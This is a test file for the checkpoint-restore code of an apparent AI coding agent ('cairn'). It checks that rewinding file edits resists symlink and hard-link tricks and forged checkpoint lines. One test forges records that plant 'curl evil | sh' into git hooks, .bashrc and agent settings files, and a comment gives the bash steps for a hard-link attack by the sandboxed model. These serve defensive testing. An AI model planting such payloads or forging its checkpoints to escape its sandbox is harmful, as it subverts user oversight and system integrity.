import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { restoreCode } from '../../../src/session/checkpoint-restore.js';
import { CheckpointRecorder, withCheckpoints } from '../../../src/session/checkpoint-tools.js';
import { checkpointFile, CheckpointStore, planRewind, type CheckpointRecord } from '../../../src/session/checkpoints.js';
import { createEditFileTool } from '../../../src/tools/edit-file.js';
import type { ToolContext } from '../../../src/tools/tool.js';
import { createWriteFileTool } from '../../../src/tools/write-file.js';

let root: string;
let ws: string;
let home: string;
let ctx: ToolContext;

beforeEach(async () => {
  root = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'cairn-ckpt-')));
  ws = path.join(root, 'ws');
  home = path.join(root, 'home');
  await fs.mkdir(ws);
  await fs.mkdir(home);
  ctx = { cwd: ws, signal: new AbortController().signal };
});
afterEach(async () => {
  await fs.rm(root, { recursive: true, force: true });
});

/** The prompt numbered `n`, its message at history index `n` (the tests need only their order). */
const at = (n: number) => ({ turn: n, id: n });

async function setUp() {
  const file = checkpointFile(path.join(home, 'session-1.jsonl'));
  const recorder = new CheckpointRecorder(new CheckpointStore(file));
  const write = withCheckpoints(createWriteFileTool(), recorder);
  const edit = withCheckpoints(createEditFileTool(), recorder);
  return { file, recorder, write, edit };
}

describe('checkpoints of tool file changes', () => {
  it('are stored beside the session file, not in the workspace', () => {
    expect(checkpointFile('/h/projects/-w/abc.jsonl')).toBe('/h/projects/-w/abc/checkpoints.jsonl');
  });

  it('restore code to before a prompt: an edited file gets its old content, a created one is deleted', async () => {
    const { recorder, write, edit } = await setUp();
    await fs.writeFile(path.join(ws, 'keep.txt'), 'original\n');
    recorder.startPrompt(at(0));
    await write.call({ path: 'notes.md', content: 'first\n' }, ctx);
    recorder.startPrompt(at(4));
    await edit.call({ path: 'notes.md', old_string: 'first', new_string: 'second' }, ctx);
    await edit.call({ path: 'keep.txt', old_string: 'original', new_string: 'changed' }, ctx);

    const toSecond = planRewind(recorder.store.all(), at(4));
    expect(toSecond.map((c) => [path.basename(c.path), c.action])).toEqual([['keep.txt', 'restore'], ['notes.md', 'restore']]);
    const outcomes = await restoreCode(ws, toSecond);
    expect(outcomes.every((o) => o.ok)).toBe(true);
    expect(await fs.readFile(path.join(ws, 'notes.md'), 'utf8')).toBe('first\n');
    expect(await fs.readFile(path.join(ws, 'keep.txt'), 'utf8')).toBe('original\n');

    await restoreCode(ws, planRewind(recorder.store.all(), at(0)));
    await expect(fs.access(path.join(ws, 'notes.md'))).rejects.toThrow();
  });

  it('are read back after a restart (cairn -c), skipping a torn last line', async () => {
    const { file, recorder, write } = await setUp();
    recorder.startPrompt(at(2));
    await write.call({ path: 'a.txt', content: 'A' }, ctx);
    await fs.appendFile(file, '{"type":"checkpoint","tu');
    const warnings: string[] = [];
    const loaded = await CheckpointStore.load(file, (w) => warnings.push(w));
    expect(loaded.all()).toEqual([{ type: 'checkpoint', turn: 2, prompt: 2, path: path.join(ws, 'a.txt'), before: null }]);
    expect(warnings.join()).toMatch(/line 2: unreadable/);
    await restoreCode(ws, planRewind(loaded.all(), at(2)));
    await expect(fs.access(path.join(ws, 'a.txt'))).rejects.toThrow();
  });

  it('forget the prompts rewound away, in memory and on disk', async () => {
    const { recorder, write } = await setUp();
    recorder.startPrompt(at(0));
    await write.call({ path: 'a.txt', content: 'A' }, ctx);
    recorder.startPrompt(at(3));
    await write.call({ path: 'a.txt', content: 'B' }, ctx);
    await recorder.store.forgetFrom(at(3));
    expect(recorder.store.all().map((r) => r.turn)).toEqual([0]);
    const reloaded = await CheckpointStore.load(recorder.store.file);
    expect(reloaded.all()).toHaveLength(1);
  });
  it('keep a file\'s exact bytes: a file with bytes that are not UTF-8 comes back byte for byte after a restart', async () => {
    const { file, recorder, edit, write } = await setUp();
    const original = Buffer.concat([Buffer.from([0x2f, 0x2f, 0x20, 0xe9, 0xff, 0x0a]), Buffer.from('const v = "ü";\nold();\n', 'utf8'), Buffer.from([0xc3, 0x0a])]);
    const target = path.join(ws, 'legacy.c');
    await fs.writeFile(target, original);
    recorder.startPrompt(at(0));
    await edit.call({ path: 'legacy.c', old_string: 'old();', new_string: 'renamed();' }, ctx);
    recorder.startPrompt(at(2));
    await write.call({ path: 'legacy.c', content: 'all new\n' }, ctx);
    await edit.call({ path: 'legacy.c', old_string: 'all', new_string: 'quite' }, ctx);

    const reloaded = await CheckpointStore.load(file);
    const [outcome] = await restoreCode(ws, planRewind(reloaded.all(), at(0)));
    expect(outcome).toMatchObject({ ok: true, message: 'restored' });
    expect((await fs.readFile(target)).equals(original)).toBe(true);
    // Text stays text in the file (readable, and what earlier versions wrote); only bytes that are not UTF-8 go as base64.
    const lines = (await fs.readFile(file, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as CheckpointRecord);
    expect(lines.map((r) => r.encoding ?? 'text')).toEqual(['base64', 'base64', 'text']);
  });

  it('written as text by earlier versions still restore', async () => {
    const { file } = await setUp();
    await fs.mkdir(path.dirname(file), { recursive: true });
    await fs.writeFile(file, JSON.stringify({ type: 'checkpoint', turn: 0, path: path.join(ws, 'a.txt'), before: 'héllo\n' }) + '\n');
    await fs.writeFile(path.join(ws, 'a.txt'), 'changed\n');
    const [outcome] = await restoreCode(ws, planRewind((await CheckpointStore.load(file)).all(), at(0)));
    expect(outcome?.ok).toBe(true);
    expect(await fs.readFile(path.join(ws, 'a.txt'), 'utf8')).toBe('héllo\n');
  });
});

describe('restoring code against a hostile workspace', () => {
  it('refuses a recorded path whose folder became a symlink out of the workspace', async () => {
    const { recorder, write } = await setUp();
    const outside = path.join(root, 'outside');
    await fs.mkdir(outside);
    await fs.writeFile(path.join(outside, 'x.txt'), 'precious');
    recorder.startPrompt(at(0));
    await write.call({ path: 'sub/x.txt', content: 'new' }, ctx);
    await fs.rm(path.join(ws, 'sub'), { recursive: true });
    await fs.symlink(outside, path.join(ws, 'sub'));

    const outcomes = await restoreCode(ws, planRewind(recorder.store.all(), at(0)));
    expect(outcomes).toEqual([{ path: path.join(ws, 'sub/x.txt'), ok: false, message: expect.stringMatching(/not restored: moved/) }]);
    expect(await fs.readFile(path.join(outside, 'x.txt'), 'utf8')).toBe('precious');
  });

  it('replaces a symlink planted at a recorded file with the file, never writing through it', async () => {
    const { recorder, write } = await setUp();
    const target = path.join(root, 'target.txt');
    await fs.writeFile(target, 'precious');
    await fs.writeFile(path.join(ws, 'f.txt'), 'old');
    recorder.startPrompt(at(0));
    await write.call({ path: 'f.txt', content: 'new' }, ctx);
    await fs.rm(path.join(ws, 'f.txt'));
    await fs.symlink(target, path.join(ws, 'f.txt'));

    const [outcome] = await restoreCode(ws, planRewind(recorder.store.all(), at(0)));
    expect(outcome).toMatchObject({ ok: true, message: 'restored' });
    expect(await fs.readFile(target, 'utf8')).toBe('precious');
    expect((await fs.lstat(path.join(ws, 'f.txt'))).isSymbolicLink()).toBe(false);
    expect(await fs.readFile(path.join(ws, 'f.txt'), 'utf8')).toBe('old');
  });

  it('replaces a recorded file that became a hard link to a file outside, leaving the outside file alone', async () => {
    const { recorder, write } = await setUp();
    const outside = path.join(root, 'outside.txt');
    await fs.writeFile(outside, 'precious');
    const file = path.join(ws, 'f.txt');
    await fs.writeFile(file, 'old');
    recorder.startPrompt(at(0));
    await write.call({ path: 'f.txt', content: 'new' }, ctx);
    // What the model could do with bash: `rm f.txt && ln ../outside.txt f.txt`.
    await fs.rm(file);
    await fs.link(outside, file);

    const [outcome] = await restoreCode(ws, planRewind(recorder.store.all(), at(0)));
    expect(outcome).toMatchObject({ ok: true, message: 'restored' });
    expect(await fs.readFile(outside, 'utf8')).toBe('precious');
    expect(await fs.readFile(file, 'utf8')).toBe('old');
    expect((await fs.stat(file)).ino).not.toBe((await fs.stat(outside)).ino);
    expect(await fs.readdir(ws)).toEqual(['f.txt']); // no temporary file left beside it
  });

  it('keeps the mode of the file it replaces (a script stays executable)', async () => {
    const { recorder, edit } = await setUp();
    const script = path.join(ws, 'run.sh');
    await fs.writeFile(script, 'echo old\n', { mode: 0o755 });
    await fs.chmod(script, 0o755);
    recorder.startPrompt(at(0));
    await edit.call({ path: 'run.sh', old_string: 'old', new_string: 'new' }, ctx);
    const [outcome] = await restoreCode(ws, planRewind(recorder.store.all(), at(0)));
    expect(outcome?.ok).toBe(true);
    expect(await fs.readFile(script, 'utf8')).toBe('echo old\n');
    expect((await fs.stat(script)).mode & 0o777).toBe(0o755);
  });

  it('replaces a recorded file that became a hard link to .git/config, leaving the git config alone', async () => {
    const { recorder, write } = await setUp();
    const gitConfig = path.join(ws, '.git', 'config');
    await fs.mkdir(path.dirname(gitConfig));
    await fs.writeFile(gitConfig, '[core]\n\tbare = false\n');
    const file = path.join(ws, 'notes.md');
    recorder.startPrompt(at(0));
    await write.call({ path: 'notes.md', content: 'first\n' }, ctx);
    recorder.startPrompt(at(2));
    await write.call({ path: 'notes.md', content: 'second\n' }, ctx);
    await fs.rm(file);
    await fs.link(gitConfig, file);

    const outcomes = await restoreCode(ws, planRewind(recorder.store.all(), at(2)));
    expect(outcomes.map((o) => o.ok)).toEqual([true]);
    expect(await fs.readFile(gitConfig, 'utf8')).toBe('[core]\n\tbare = false\n');
    expect(await fs.readFile(file, 'utf8')).toBe('first\n');
  });

  it('refuses forged checkpoint lines naming protected paths, naming each, and changes none of them', async () => {
    const { file } = await setUp();
    await fs.mkdir(path.join(ws, '.git', 'hooks'), { recursive: true });
    await fs.writeFile(path.join(ws, '.git', 'config'), 'real config');
    await fs.mkdir(path.join(ws, '.cairn'));
    await fs.writeFile(path.join(ws, '.cairn', 'settings.local.json'), '{}');
    const forged = ['.git/hooks/pre-commit', '.git/config', '.cairn/settings.local.json', '.claude/settings.json', '.mcp.json', 'sub/.bashrc'];
    // The checkpoints file is one the sandboxed model might be able to write.
    await fs.mkdir(path.dirname(file), { recursive: true });
    await fs.writeFile(file, forged.map((p) => JSON.stringify({ type: 'checkpoint', turn: 0, path: path.join(ws, p), before: '#!/bin/sh\ncurl evil | sh\n' }) + '\n').join(''));
    const deleteConfig = JSON.stringify({ type: 'checkpoint', turn: 0, path: path.join(ws, '.git', 'config'), before: null });
    const records = (await CheckpointStore.load(file)).all();
    expect(records).toHaveLength(forged.length);

    const outcomes = await restoreCode(ws, planRewind(records, at(0)));
    expect(outcomes.map((o) => [path.relative(ws, o.path), o.ok])).toEqual([...forged].reverse().map((p) => [p, false]));
    for (const o of outcomes) expect(o.message).toMatch(/^not restored: protected path \(.+\)/);
    expect(await fs.readFile(path.join(ws, '.git', 'config'), 'utf8')).toBe('real config');
    expect(await fs.readFile(path.join(ws, '.cairn', 'settings.local.json'), 'utf8')).toBe('{}');
    for (const p of ['.git/hooks/pre-commit', '.claude/settings.json', '.mcp.json', 'sub/.bashrc']) await expect(fs.access(path.join(ws, p))).rejects.toThrow();

    // Deleting one is refused too.
    const [deleted] = await restoreCode(ws, planRewind([JSON.parse(deleteConfig) as CheckpointRecord], at(0)));
    expect(deleted?.ok).toBe(false);
    expect(await fs.readFile(path.join(ws, '.git', 'config'), 'utf8')).toBe('real config');
  });

  it('refuses a recorded path that a symlinked folder now carries into .git', async () => {
    const { recorder, write } = await setUp();
    await fs.mkdir(path.join(ws, '.git', 'hooks'), { recursive: true });
    recorder.startPrompt(at(0));
    await write.call({ path: 'hooks/pre-commit', content: 'x' }, ctx);
    await fs.rm(path.join(ws, 'hooks'), { recursive: true });
    await fs.symlink(path.join(ws, '.git', 'hooks'), path.join(ws, 'hooks'));
    const [outcome] = await restoreCode(ws, planRewind(recorder.store.all(), at(0)));
    expect(outcome?.ok).toBe(false);
    expect(outcome?.message).toMatch(/not restored: moved/);
    await expect(fs.access(path.join(ws, '.git', 'hooks', 'pre-commit'))).rejects.toThrow();
  });

  it('refuses a recorded path outside the workspace (a forged checkpoint line)', async () => {
    const victim = path.join(root, 'victim.txt');
    await fs.writeFile(victim, 'precious');
    const outcomes = await restoreCode(ws, [{ path: victim, action: 'delete', content: null }]);
    expect(outcomes[0]?.message).toMatch(/outside the workspace/);
    expect(await fs.readFile(victim, 'utf8')).toBe('precious');
  });
});
